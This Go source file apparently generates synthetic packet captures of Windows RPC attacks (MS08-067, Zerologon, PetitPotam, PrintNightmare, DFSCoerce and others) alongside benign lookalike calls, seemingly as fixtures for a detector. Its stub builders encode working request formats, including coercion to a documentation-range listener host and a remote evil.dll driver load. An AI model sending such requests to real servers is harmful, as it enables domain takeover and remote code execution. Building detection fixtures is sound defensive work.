package captures

import (
	"net/netip"
	"unicode/utf16"
)

// Interfaces of the attacks.
var (
	activator    = syntax{"4d9f4ab8-7d1c-11cf-861e-0020af6e7c57", 0, 0}
	srvsvc       = syntax{"4b324fc8-1670-01d3-1278-5a47bf6ee188", 3, 0}
	efsrpc       = syntax{"df1941c5-fe89-4e79-bf10-463657acf44d", 1, 0}
	spoolss      = syntax{"12345678-1234-abcd-ef00-0123456789ab", 1, 0}
	netdfs       = syntax{"4fc742e0-4a10-11cf-8273-00aa004ae673", 3, 0}
	shadowCopies = syntax{"a8e0653c-2744-4389-a61d-7373df8b2292", 1, 0}
	eventLog     = syntax{"82273fdc-e32a-18c3-3f78-827929dc23ea", 0, 0}
	scheduler    = syntax{"86d35949-83c9-4044-b424-db363231fd0c", 1, 0}
	winreg       = syntax{"338cd001-2244-31f1-aaaa-900038001003", 1, 0}
)

// listener is where servers are made to go.
const listener = "192.0.2.66"

// stub writes the parameters of an operation in NDR32, C706 chapter 14.
type stub struct {
	b    []byte
	late []string // strings that stand behind a structure
}

func (s *stub) u16(v uint16) *stub {
	s.align(2)
	s.b = le.AppendUint16(s.b, v)
	return s
}

func (s *stub) u32(v ...uint32) *stub {
	s.align(4)
	for _, v := range v {
		s.b = le.AppendUint32(s.b, v)
	}
	return s
}

func (s *stub) raw(b []byte) *stub { s.b = append(s.b, b...); return s }

func (s *stub) align(n int) {
	for len(s.b)%n != 0 {
		s.b = append(s.b, 0)
	}
}

// text is a conformant and varying string with its NUL.
func (s *stub) text(t string) *stub {
	u := utf16.Encode([]rune(t + "\x00"))
	s.u32(uint32(len(u)), 0, uint32(len(u)))
	for _, c := range u {
		s.b = le.AppendUint16(s.b, c)
	}
	return s
}

const referent = 0x00020000

// unique is a pointer to a string that stands behind it.
func (s *stub) unique(t string) *stub { return s.u32(referent).text(t) }

// member is a pointer to a string that stands behind the structure; behind
// writes those.
func (s *stub) member(t string) *stub {
	s.late = append(s.late, t)
	return s.u32(referent)
}

func (s *stub) behind() *stub {
	for _, t := range s.late {
		s.text(t)
	}
	s.late = nil
	return s
}

// counted is an RPC_UNICODE_STRING without a NUL, MS-DTYP 2.3.10.
func (s *stub) counted(t string) *stub {
	u := utf16.Encode([]rune(t))
	s.u16(uint16(2 * len(u))).u16(uint16(2 * len(u)))
	s.u32(referent, uint32(len(u)), 0, uint32(len(u)))
	for _, c := range u {
		s.b = le.AppendUint16(s.b, c)
	}
	return s
}

// returned is a response of a return value behind n bytes of zeroes.
func returned(n int, code uint32) []byte { return le.AppendUint32(make([]byte, n), code) }

// bound binds an interface of a server by a client.
func (t *tape) bound(client, server netip.Addr, s syntax) *conn {
	c := t.dial(client, server, dynamicPort)
	c.bindTo(s)
	return c
}

// does is a call with its response.
func (c *conn) does(id uint32, opnum uint16, s *stub, response []byte) {
	c.ask(le.request(id, 0, opnum, s.b))
	c.answer(le.response(id, 0, response))
}

// once is a whole conversation of one call.
func (t *tape) once(client, server netip.Addr, i syntax, opnum uint16, s *stub, response []byte) {
	c := t.bound(client, server, i)
	c.does(2, opnum, s, response)
	c.close()
}

// canonicalize is NetprPathCanonicalize, MS-SRVS 3.1.4.30.
func canonicalize(path, prefix string) *stub {
	return new(stub).unique(`\\10.66.10.50`).text(path).u32(520).text(prefix).u32(1, 0)
}

// remoteActivation is RemoteActivation, MS-DCOM 3.1.2.5.2.1, of an object in a
// file.
func (t *tape) remoteActivation(path string) *stub {
	s := new(stub).u16(5).u16(6).u32(1, 0).raw(t.noise(16)).u32(0) // ORPCTHIS
	return s.raw(t.noise(16)).unique(path).u32(0, 2, 0, 1).u32(referent, 1).raw(t.noise(16)).u16(1).u32(1).u16(7)
}

// Operations of netlogon, MS-NRPC 3.5.4.4.
func challenge(zeroes []byte) *stub {
	return new(stub).unique(`\\DC1`).text("DC1").raw(zeroes)
}

func authenticate(zeroes []byte) *stub {
	s := new(stub).unique(`\\DC1`).text("DC1$").u16(6).text("DC1").raw(zeroes)
	return s.u32(0x212fffff)
}

func setPassword() *stub {
	s := new(stub).unique(`\\DC1`).text("DC1$").u16(6).text("DC1").raw(make([]byte, 8))
	return s.u32(0).raw(make([]byte, 516))
}

// printerDriver is RpcAddPrinterDriverEx with a container of level 2, MS-RPRN
// 3.1.4.4.8.
func printerDriver(path, data, config string) *stub {
	s := new(stub).unique(`\\10.66.10.50`).u32(2, 2, referent, 3)
	s.member("1234").member("Windows x64").member(path).member(data).member(config)
	return s.behind().u32(0x8014)
}

// createService is RCreateServiceW, MS-SCMR 3.1.4.12.
func (t *tape) createService(name, command string) *stub {
	s := new(stub).raw(t.handle()).text(name).unique(name).u32(0xf01ff, 0x10, 3, 0)
	return s.text(command).u32(0, 0, 0, 0, 0, 0, 0)
}

// registerTask is SchRpcRegisterTask, MS-TSCH 3.2.5.4.2.
func registerTask(path, command string) *stub {
	xml := `<Task><Actions><Exec><Command>` + command + `</Command></Exec></Actions></Task>`
	return new(stub).unique(path).text(xml).u32(6, 0, 0, 0, 0)
}

// monitor is RpcRemoteFindFirstPrinterChangeNotificationEx, MS-RPRN 3.1.4.10.4.
func (t *tape) monitor(machine string) *stub {
	return new(stub).raw(t.handle()).u32(0x100, 0).unique(machine).u32(0, 0)
}

// openLog is ElfrOpenBELW, MS-EVEN 3.1.4.2.
func openLog(file string) *stub { return new(stub).u32(0).counted(file).u32(1, 1) }

const (
	invalidName = 0x7b // ERROR_INVALID_NAME
	badNetPath  = 0x35
	refused     = 0xc0000022
)

func attackCaptures() []Capture {
	zeroes := make([]byte, 8)
	return []Capture{
		{Name: "attack-ms08-067", Shows: "NetprPathCanonicalize with a path above its root: refused by one server, not answered by another", play: func(t *tape) {
			t.once(dmzClient, fileServer, srvsvc, 31, canonicalize(`\x\..\..\AAAAAAAA`, `\`), returned(12, invalidName))
			c := t.bound(dmzClient, domainController, srvsvc)
			c.ask(le.request(2, 0, 31, canonicalize(`\x\..\..\AAAAAAAA`, `\`).b))
			c.reset(toClient)
		}},
		{Name: "attack-ms06-040", Shows: "NetprPathCanonicalize with a path of 600 characters", play: func(t *tape) {
			long := make([]byte, 600)
			for i := range long {
				long[i] = 'A' + byte(i%26)
			}
			t.once(dmzClient, fileServer, srvsvc, 31, canonicalize(string(long), ""), returned(12, invalidName))
		}},
		{Name: "attack-ms03-026", Shows: "RemoteActivation of an object in a file whose server has a name of 60 characters", play: func(t *tape) {
			long := make([]byte, 60)
			for i := range long {
				long[i] = 'F'
			}
			c := t.dial(dmzClient, fileServer, 135)
			c.bindTo(activator)
			c.ask(le.request(2, 0, 0, t.remoteActivation(`\\`+string(long)+`\C$\1.doc`).b))
			c.reset(toClient)
		}},
		{Name: "attack-zerologon", Shows: "a secure channel tried with a credential of zeroes, refused three times, then taken, and a password of zeroes set", play: func(t *tape) {
			c := t.bound(dmzClient, domainController, netlogon)
			id := uint32(2)
			for i := range 4 {
				c.does(id, 4, challenge(zeroes), returned(8, 0))
				code := uint32(refused)
				if i == 3 {
					code = 0
				}
				c.does(id+1, 26, authenticate(zeroes), returned(16, code))
				id += 2
			}
			c.does(id, 30, setPassword(), returned(12, 0))
			c.close()
		}},
		{Name: "attack-petitpotam", Shows: "EfsRpcOpenFileRaw of a file on another host: a domain controller goes there", play: func(t *tape) {
			t.once(internalClient, domainController, efsrpc, 0, new(stub).text(`\\`+listener+`\share\file.txt`).u32(0), returned(20, badNetPath))
		}},
		{Name: "attack-printerbug", Shows: "a spooler asked to notify another host of printer changes", play: func(t *tape) {
			t.once(internalClient, domainController, spoolss, 65, t.monitor(`\\`+listener), returned(0, 0x6ba))
		}},
		{Name: "attack-printnightmare", Shows: "a printer driver added from another host", play: func(t *tape) {
			t.once(internalClient, fileServer, spoolss, 89, printerDriver(`C:\Windows\System32\UNIDRV.DLL`, `\\`+listener+`\share\evil.dll`, `C:\Windows\System32\winhttp.dll`), returned(0, 0))
		}},
		{Name: "attack-dfscoerce", Shows: "NetrDfsRemoveStdRoot of a root on another host", play: func(t *tape) {
			t.once(internalClient, domainController, netdfs, 13, new(stub).text(listener).text("root").u32(0), returned(0, badNetPath))
		}},
		{Name: "attack-shadowcoerce", Shows: "IsPathSupported of a share on another host", play: func(t *tape) {
			t.once(internalClient, fileServer, shadowCopies, 8, new(stub).text(`\\`+listener+`\NETLOGON`), returned(16, 0x80042308))
		}},
		{Name: "attack-cheeseounce", Shows: "ElfrOpenBELW of a backup on another host", play: func(t *tape) {
			t.once(internalClient, domainController, eventLog, 9, openLog(`\??\UNC\`+listener+`\share\log.evt`), returned(20, 0xc00000cc))
		}},
		{Name: "attack-remote-administration", Shows: "from the DMZ a service, a task, a registry hive saved", play: func(t *tape) {
			t.once(dmzClient, fileServer, svcctl, 12, t.createService("BTOBTO", `%COMSPEC% /Q /c echo dir`), returned(24, 0))
			t.once(dmzClient, fileServer, scheduler, 1, registerTask(`\abcdefgh`, "cmd.exe"), returned(8, 0))
			t.once(dmzClient, fileServer, winreg, 20, new(stub).raw(t.handle()).counted(`..\Temp\x.tmp`+"\x00").u32(0), returned(0, 0))
		}},
		{Name: "attack-lookalikes", Shows: "the same operations as lawful programs call them within a zone: a path below its root, a credential that is none of zeroes, files of the server's own", play: func(t *tape) {
			own := `\\10.66.10.50\share\file.txt`
			t.once(internalClient, fileServer, srvsvc, 31, canonicalize(`C:\share\file`, ""), returned(12, 0))
			c := t.dial(internalClient, fileServer, 135)
			c.bindTo(activator)
			c.does(2, 0, t.remoteActivation(`\\fs1\C$\1.doc`), returned(40, 0))
			c.close()
			c = t.bound(internalClient, domainController, netlogon)
			c.does(2, 4, challenge(t.noise(8)), returned(8, 0))
			c.does(3, 26, authenticate(t.noise(8)), returned(16, 0))
			c.close()
			t.once(internalClient, fileServer, efsrpc, 0, new(stub).text(own).u32(0), returned(20, 0))
			t.once(internalClient, fileServer, efsrpc, 0, new(stub).text(`C:\share\file.txt`).u32(0), returned(20, 0))
			t.once(internalClient, fileServer, netdfs, 12, new(stub).text("10.66.10.50").text("root").text("").u32(0), returned(0, 0))
			t.once(internalClient, fileServer, shadowCopies, 8, new(stub).text(own), returned(16, 0))
			t.once(internalClient, fileServer, eventLog, 9, openLog(`\??\C:\log.evt`), returned(20, 0))
		}},
	}
}
